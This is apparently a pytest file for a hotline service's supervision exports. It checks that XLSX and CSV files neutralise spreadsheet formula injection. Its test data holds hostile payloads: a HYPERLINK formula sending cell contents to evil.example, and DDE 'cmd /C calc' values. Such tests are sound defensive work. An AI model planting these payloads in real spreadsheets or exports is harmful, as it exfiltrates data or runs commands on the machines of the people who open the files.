"""Issue 15 §1: exported cells never start a formula.

Callers' words (content, address), the agent's category and an admin's unit name reach the
overdue export and the monthly report. Each is written with a formula payload; the XLSX files are
opened with openpyxl and hold no formula (nor a ``<f>`` element in the sheet XML), the words are
kept exactly, and the CSV neutralises each with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from typing import Any

import time_machine
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from hotline.web.exports import risky
from sla import SHANGHAI
from tests.hotline.conftest import Api, City

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
PAYLOADS = {
    "content": HYPERLINK,
    "address": "=cmd|' /C calc'!A0",
    "category": "+SUM(1,2)",
    "unit": "@SUM(1+1)*cmd|' /C calc'!A0",
}
OTHER = ["-2+3+cmd|' /C calc'!A0", "＝1+1", "=1+1\n=2+2"]
THEN = datetime(2026, 11, 2, 10, 0, tzinfo=SHANGHAI)
NOW = datetime(2026, 11, 20, 10, 0, tzinfo=SHANGHAI)


def _hostile_tickets(api: Api, client: TestClient, headers: Any, city: City) -> None:
    r = client.post("/api/v1/units", headers=headers("admin"),
                    json={"code": "EVIL", "name": PAYLOADS["unit"], "kind": "handler",
                          "parent_id": city.unit("DC-DH")})
    assert r.status_code == 201, r.text
    with time_machine.travel(THEN, tick=False):
        for content in [PAYLOADS["content"], *OTHER]:
            n = api.create(content=content, address=PAYLOADS["address"])["number"]
            api.act("agent", n, "dispatch", lead_unit_id=r.json()["id"],
                    category=PAYLOADS["category"], due_working_days=2)


def _no_formulas(data: bytes) -> list[Any]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_board_xlsx_and_csv_hold_no_formula(api: Api, client: TestClient, headers: Any,
                                            city: City) -> None:
    _hostile_tickets(api, client, headers, city)
    with time_machine.travel(NOW, tick=False):
        xlsx = client.get("/api/v1/supervision/board.xlsx", headers=headers("supervisor"))
        text = client.get("/api/v1/supervision/board.csv", headers=headers("supervisor"))
    assert xlsx.status_code == 200 and text.status_code == 200
    values = _no_formulas(xlsx.content)
    for payload in [*PAYLOADS.values(), *OTHER]:
        assert payload in values  # kept exactly, as text
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert len(rows) == 1 + 1 + len(OTHER)
    cells = [c for row in rows for c in row]
    assert not any(risky(c) for c in cells)
    for payload in [*PAYLOADS.values(), *OTHER]:
        assert "'" + payload in cells


def test_monthly_report_xlsx_holds_no_formula(api: Api, client: TestClient, headers: Any,
                                              city: City) -> None:
    _hostile_tickets(api, client, headers, city)
    with time_machine.travel(NOW, tick=False):
        r = client.get("/api/v1/supervision/report", params={"month": "2026-11", "format": "xlsx"},
                       headers=headers("supervisor"))
    assert r.status_code == 200, r.text
    values = _no_formulas(r.content)
    assert PAYLOADS["unit"] in values
